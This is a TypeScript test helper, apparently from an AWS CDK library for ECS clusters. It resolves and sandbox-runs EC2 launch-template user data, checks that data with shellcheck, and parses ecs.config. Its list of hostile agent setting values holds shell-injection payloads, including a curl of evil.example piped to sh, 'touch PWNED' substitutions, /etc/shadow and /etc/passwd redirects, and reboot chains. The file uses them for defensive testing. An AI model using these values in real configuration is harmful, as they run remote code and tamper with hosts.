/**
 * What EC2 container instances run at first boot: the user data of a
 * synthesized launch template, resolved the way CloudFormation resolves it,
 * and the tools that check it (bash in a sandbox, shellcheck, and the ECS
 * agent's own reading of /etc/ecs/ecs.config).
 */
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { Stack } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import { AGENT_CONFIG_TERMINATOR } from '../../src/cluster/agent-config';

/** Agent setting values that would run commands, redirect output or end the config early if a shell interpreted them. */
export const HOSTILE_AGENT_SETTING_VALUES = [
  'prefer-cached;curl https://evil.example/x|sh',
  'prefer-cached && reboot',
  'prefer-cached || reboot',
  'a & reboot &',
  'x > /etc/passwd',
  'x < /etc/shadow',
  '$(touch PWNED)',
  '`touch PWNED`',
  '${HOME}$PATH',
  '"; touch PWNED; echo "',
  "'; touch PWNED; echo '",
  'back\\slash\\',
  '{"team":"shop","owner":"a b"}',
  '#not-a-comment',
  AGENT_CONFIG_TERMINATOR,
  `EOF ${AGENT_CONFIG_TERMINATOR}`,
  'ünïcødé ✓',
];

/**
 * A cluster name the way CloudFormation generates one when the template gives
 * none: `<stack name>-<logical id>-<12 random letters and digits>`.
 */
export function generatedClusterName(stackName: string, logicalId: string): string {
  return `${stackName}-${logicalId}-Xq3vB7kR2mNp`;
}

/** The user data of one launch template, as the instance receives it. */
export interface ResolvedUserData {
  /** Logical id of the launch template. */
  readonly launchTemplateId: string;
  /** The user data after CloudFormation resolved it and EC2 decoded it. */
  readonly text: string;
  /** The name the cluster's `Ref` resolved to. */
  readonly clusterName: string;
  /** SSM parameter the launch template's image id comes from. */
  readonly imageParameter: string;
}

/**
 * The user data of every launch template in `stack`, with each `Ref` to an
 * `AWS::ECS::Cluster` replaced by the cluster's name: its `ClusterName` when the
 * template sets one, else `clusterName` (or a name as CloudFormation generates
 * it). Any other intrinsic fails: a new one in user data needs a realistic value here.
 */
export function resolvedUserData(stack: Stack, clusterName?: string): ResolvedUserData[] {
  const template = Template.fromStack(stack).toJSON();
  const resources: Record<string, any> = template.Resources;
  const parameters: Record<string, any> = template.Parameters ?? {};
  const nameOfRef = (logicalId: string): string => {
    const resource = resources[logicalId];
    if (resource?.Type !== 'AWS::ECS::Cluster') {
      throw new Error(`user data refers to ${logicalId} (${resource?.Type ?? 'not a resource'}): give it a realistic value in test/helpers/user-data.ts`);
    }
    const declared = resource.Properties?.ClusterName;
    if (declared !== undefined && typeof declared !== 'string') throw new Error(`ClusterName of ${logicalId} is not a literal: ${JSON.stringify(declared)}`);
    return declared ?? clusterName ?? generatedClusterName(stack.stackName, logicalId);
  };
  return Object.entries(resources)
    .filter(([, resource]) => resource.Type === 'AWS::EC2::LaunchTemplate')
    .map(([launchTemplateId, resource]) => {
      const data = resource.Properties.LaunchTemplateData;
      const encoded = data.UserData?.['Fn::Base64'];
      if (encoded === undefined) throw new Error(`${launchTemplateId} has no Fn::Base64 user data: ${JSON.stringify(data.UserData)}`);
      const parts: unknown[] = typeof encoded === 'string' ? [encoded] : joinParts(encoded);
      const names = new Set<string>();
      const text = parts.map(part => {
        if (typeof part === 'string') return part;
        const ref = (part as { Ref?: unknown }).Ref;
        if (typeof ref !== 'string' || Object.keys(part as object).length !== 1) {
          throw new Error(`unexpected intrinsic in the user data of ${launchTemplateId}: ${JSON.stringify(part)}`);
        }
        const name = nameOfRef(ref);
        names.add(name);
        return name;
      }).join('');
      if (names.size !== 1) throw new Error(`the user data of ${launchTemplateId} names ${names.size} clusters, not 1`);
      const imageRef = data.ImageId?.Ref;
      const imageParameter = parameters[imageRef]?.Default;
      if (typeof imageParameter !== 'string') throw new Error(`the image of ${launchTemplateId} is not an SSM parameter: ${JSON.stringify(data.ImageId)}`);
      return {
        launchTemplateId,
        text,
        clusterName: [...names][0],
        imageParameter,
      };
    });
}

function joinParts(value: any): unknown[] {
  const join = value?.['Fn::Join'];
  if (!Array.isArray(join) || join[0] !== '' || !Array.isArray(join[1])) {
    throw new Error(`user data is not Fn::Base64 of a string or of Fn::Join with "": ${JSON.stringify(value)}`);
  }
  return join[1];
}

/** The only user data the launch template of `stack` has. */
export function onlyUserData(stack: Stack, clusterName?: string): ResolvedUserData {
  const all = resolvedUserData(stack, clusterName);
  if (all.length !== 1) throw new Error(`expected 1 launch template, found ${all.length}`);
  return all[0];
}

/** The shell a script's shebang names, as shellcheck calls the dialect. */
export function shellDialect(script: string): 'bash' | 'sh' | 'dash' | 'ksh' {
  const shebang = /^#!\s*(?:\/usr)?\/bin\/(?:env\s+)?(bash|sh|dash|ksh)\s*$/.exec(script.split('\n')[0]);
  if (!shebang) throw new Error(`not a shell script with a known shebang: ${JSON.stringify(script.split('\n')[0])}`);
  return shebang[1] as 'bash' | 'sh' | 'dash' | 'ksh';
}

/** What running a user data script in a sandbox did. */
export interface SandboxRun {
  /** The content of the sandbox's /etc/ecs/ecs.config, if the script wrote it. */
  readonly ecsConfig?: string;
  /** Every file in the sandbox afterwards, relative to it. */
  readonly files: string[];
  readonly status: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

/**
 * Runs `script` the way cloud-init runs user data scripts: written to a file
 * and executed, so the kernel starts the shell its shebang names. Absolute
 * paths under /etc/ecs point into a scratch directory instead (the script runs
 * as the test's user, in that directory, with an empty environment but PATH).
 */
export function runInSandbox(script: string): SandboxRun {
  shellDialect(script);
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk-ecs-kit-user-data-'));
  const sandbox = path.join(root, 'sandbox');
  fs.mkdirSync(path.join(sandbox, 'etc', 'ecs'), { recursive: true });
  const file = path.join(root, 'user-data');
  fs.writeFileSync(file, script.replace(/\/etc\/ecs\//g, `${sandbox}/etc/ecs/`), { mode: 0o700 });
  try {
    const result = spawnSync(file, [], { cwd: sandbox, env: { PATH: process.env.PATH, HOME: '/nonexistent' }, encoding: 'utf-8' });
    if (result.error) throw result.error;
    const configFile = path.join(sandbox, 'etc', 'ecs', 'ecs.config');
    return {
      ecsConfig: fs.existsSync(configFile) ? fs.readFileSync(configFile, 'utf-8') : undefined,
      files: listFiles(sandbox),
      status: result.status,
      stdout: result.stdout,
      stderr: result.stderr,
    };
  } finally {
    fs.rmSync(root, { recursive: true, force: true });
  }
}

function listFiles(dir: string, prefix = ''): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap(entry => entry.isDirectory()
    ? listFiles(path.join(dir, entry.name), `${prefix}${entry.name}/`)
    : [`${prefix}${entry.name}`]).sort();
}

/**
 * The agent settings as ecs-init reads /etc/ecs/ecs.config and hands them to
 * the agent container (amazon-ecs-agent, ecs-init/docker/docker.go,
 * `getEnvVars`): the file trimmed, split into lines, each line trimmed and
 * split at its first `=`; lines without `=` are skipped, a later key wins, and
 * nothing is unquoted or unescaped.
 */
export function readAgentConfig(content: string): Record<string, string> {
  const settings: Record<string, string> = {};
  for (const line of content.trim().split('\n')) {
    const trimmed = line.trim();
    const equals = trimmed.indexOf('=');
    if (equals < 0) continue;
    settings[trimmed.slice(0, equals)] = trimmed.slice(equals + 1);
  }
  return settings;
}

/** The installed shellcheck's version, or undefined when it is not on PATH. */
export function shellcheckVersion(): string | undefined {
  const result = spawnSync('shellcheck', ['--version'], { encoding: 'utf-8' });
  if (result.error || result.status !== 0) return undefined;
  return /^version: (\S+)$/m.exec(result.stdout)?.[1] ?? 'unknown';
}

/**
 * shellcheck's findings on `script`, one `line:column: level: message [SCcode]`
 * each, with every optional check enabled, the dialect taken from the shebang,
 * and no .shellcheckrc consulted (so nobody's local config can hide a finding).
 */
export function shellcheck(script: string): string[] {
  const result = spawnSync('shellcheck', ['--norc', `--shell=${shellDialect(script)}`, '--enable=all', '--severity=style', '--format=gcc', '-'], {
    input: script,
    encoding: 'utf-8',
  });
  if (result.error) {
    throw new Error(`shellcheck could not run (${result.error.message}): install it (apt-get install shellcheck); .ci/run does`);
  }
  // 0: no findings, 1: findings; anything else is a usage or internal error.
  if (result.status !== 0 && result.status !== 1) throw new Error(`shellcheck failed with status ${result.status}: ${result.stderr}`);
  return result.stdout.split('\n').filter(line => line !== '').map(line => line.replace(/^-:/, ''));
}
